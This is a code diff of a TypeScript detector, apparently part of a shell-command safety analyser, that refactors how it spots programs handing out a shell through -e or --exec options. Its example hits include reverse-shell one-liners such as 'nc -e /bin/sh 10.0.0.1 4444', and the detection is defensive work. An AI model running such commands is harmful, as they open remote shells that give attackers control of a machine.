@@ -1,7 +1,6 @@
 import type { Invocation, Shape } from '../model/facts.js'
 import { type Builtin, knownArgs } from './builtin.js'
 import type { DecideInput, Finding } from './scene.js'
-import { isAnonymous } from './trusted-name.js'
 
 const NONE: readonly Finding[] = []
 
@@ -13,12 +12,15 @@ const shaped =
       : facts.shapes.filter((shape) => shape.kind === kind).map(({ span }) => ({ span, program }))
 
 /** `-e /bin/sh`, whatever the program calls itself. */
-const handsOutShell = (part: Invocation): boolean => {
-  const args = knownArgs(part)
-  return args.some(
-    (arg, i) =>
-      /^(?:-[a-z]*[ec]|--(?:sh-)?exec)$/.test(arg) && /^(?:\/\S*\/)?(?:ba|da|z|k)?sh$/.test(args[i + 1] ?? ''),
-  )
+function handsOutShell({ argv }: Invocation): boolean {
+  let option = ''
+  for (let i = 1; i < argv.length; i++) {
+    const arg = argv[i]
+    if (typeof arg !== 'string') continue
+    if (option !== '' && /^(?:\/\S*\/)?(?:ba|da|z|k)?sh$/.test(arg)) return true
+    option = arg.startsWith('-') && /^(?:-[a-z]*[ec]|--(?:sh-)?exec)$/.test(arg) ? arg : ''
+  }
+  return false
 }
 
 /** Dangerous as a whole rather than by one program. */
@@ -62,8 +64,7 @@ export const SHAPE_BUILTINS: readonly Builtin[] = [
           ? /^(?:exec|system|shell):/i.test(arg)
           : /^-[A-Za-z]*[ec]/.test(arg) || /^--(?:e|sh|lua)/.test(arg),
       ),
-    finds: ({ facts }) =>
-      facts.invocations.filter((part) => isAnonymous(part) && handsOutShell(part)).map(({ span }) => ({ span })),
+    unmasks: (part) => (handsOutShell(part) ? { span: part.span } : null),
     hits: [
       '"$(cat x)" -e /bin/sh 10.0.0.1 4444',
       'nc -e /bin/sh 10.0.0.1 4444',
